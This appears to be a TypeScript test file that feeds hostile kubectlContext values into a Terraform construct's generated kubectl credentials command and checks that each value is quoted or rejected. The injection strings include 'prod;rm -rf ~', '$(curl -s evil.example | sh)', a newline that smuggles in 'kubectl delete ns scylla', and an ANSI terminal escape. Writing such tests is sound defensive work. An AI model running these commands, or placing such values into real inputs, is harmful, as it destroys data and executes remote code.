import { assertContextArgument, check, tfUnescape } from './checks';
import { alternatorScylla, RACK } from './fixtures';
import type { HostileCase, SynthOut } from './types';

const CLASS = 'generated commands';

/** A cluster with Alternator whose datacenter has `kubectlContext`, and one client (which prints the command). */
function withContext(lib: any, stack: any, kubectlContext: unknown): any {
  const cluster = alternatorScylla(lib, stack, { datacenters: [{ name: 'dc1', racks: [RACK], kubectlContext }] });
  return cluster.addClient('Orders', { name: 'orders', namespace: 'orders' });
}

/** Both the construct's `alternatorCredentialsCommand` and the Terraform output pass the context as one literal word. */
function quoted(context: string): { safe: (out: SynthOut) => void } {
  return {
    safe: (out) => {
      const client = out.built;
      check(typeof client.alternatorCredentialsCommand === 'string', 'no alternatorCredentialsCommand');
      assertContextArgument(client.alternatorCredentialsCommand, context);
      const entry = Object.entries(out.json.output ?? {}).find(([k]) => k.endsWith('alternator_credentials_command'));
      check(entry, 'no alternator_credentials_command output');
      const raw = (entry![1] as { value: string }).value;
      check(!/(?<!\$)\$\{|(?<!%)%\{/.test(raw), `Terraform would evaluate a template in the output: ${JSON.stringify(raw.slice(0, 100))}`);
      const printed = tfUnescape(raw);
      check(printed === client.alternatorCredentialsCommand, 'the output differs from alternatorCredentialsCommand');
      assertContextArgument(printed, context);
    },
  };
}

const SAFE_CONTEXTS: [string, string][] = [
  ['prod cluster', 'a space'],
  ['prod;rm -rf ~', 'a command separator'],
  ['$(curl -s evil.example | sh)', 'command substitution'],
  ['`id`', 'backtick substitution'],
  ['prod|tee /tmp/x', 'a pipe'],
  ['prod&&reboot', 'an AND list'],
  ["it's-prod", 'a single quote'],
  ['prod"; id; echo "', 'a double quote breaking out'],
  ['prod>~/.bashrc', 'a redirection'],
  ['prod*', 'a glob'],
  ['~root', 'a tilde at the start'],
  ['#prod', 'a comment start'],
  ['arn:aws:eks:eu-west-1:123456789012:cluster/prod', 'an EKS ARN (colons and slash)'],
  // '${HOME}' is not here: `${` in any literal string is refused (Terraform would evaluate it); see T30.
  ['$HOME', 'a shell variable'],
  ['prod\\', 'a trailing backslash'],
  ['--kubeconfig=/tmp/evil', 'an option-looking context'],
];

export const COMMAND_CASES: HostileCase[] = [
  ...SAFE_CONTEXTS.map(([context, what], i): HostileCase => ({
    id: `C${String(i + 1).padStart(2, '0')}`,
    class: CLASS,
    description: `kubectlContext with ${what}: ${JSON.stringify(context)}`,
    build: (lib, stack) => withContext(lib, stack, context),
    expect: quoted(context),
  })),
  {
    id: 'C17', class: CLASS, description: 'kubectlContext with a newline (a second command when pasted)',
    build: (lib, stack) => withContext(lib, stack, 'prod\nkubectl delete ns scylla'),
    expect: { reject: { path: 'hostile/Shop/dc1', field: 'kubectlContext', value: /prod/ } },
  },
  {
    id: 'C18', class: CLASS, description: 'kubectlContext empty: the command would silently use the current context',
    build: (lib, stack) => withContext(lib, stack, ''),
    expect: { reject: { path: 'hostile/Shop/dc1', field: 'kubectlContext', value: '""' } },
  },
  {
    id: 'C19', class: CLASS, description: 'kubectlContext only whitespace',
    build: (lib, stack) => withContext(lib, stack, '   '),
    expect: { reject: { path: 'hostile/Shop/dc1', field: 'kubectlContext', value: '"   "' } },
  },
  {
    id: 'C20', class: CLASS, description: 'kubectlContext as a number',
    build: (lib, stack) => withContext(lib, stack, 42),
    expect: { reject: { path: 'hostile/Shop/dc1', field: 'kubectlContext', value: '42' } },
  },
  {
    id: 'C21', class: CLASS, description: 'kubectlContext with a NUL byte',
    build: (lib, stack) => withContext(lib, stack, 'prod\u0000x'),
    expect: { reject: { path: 'hostile/Shop/dc1', field: 'kubectlContext' } },
  },
  {
    id: 'C22', class: CLASS, description: 'kubectlContext with an ANSI escape that rewrites the terminal line',
    build: (lib, stack) => withContext(lib, stack, 'prod\u001b[2K\rkubectl get pods'),
    expect: { reject: { path: 'hostile/Shop/dc1', field: 'kubectlContext' } },
  },
];
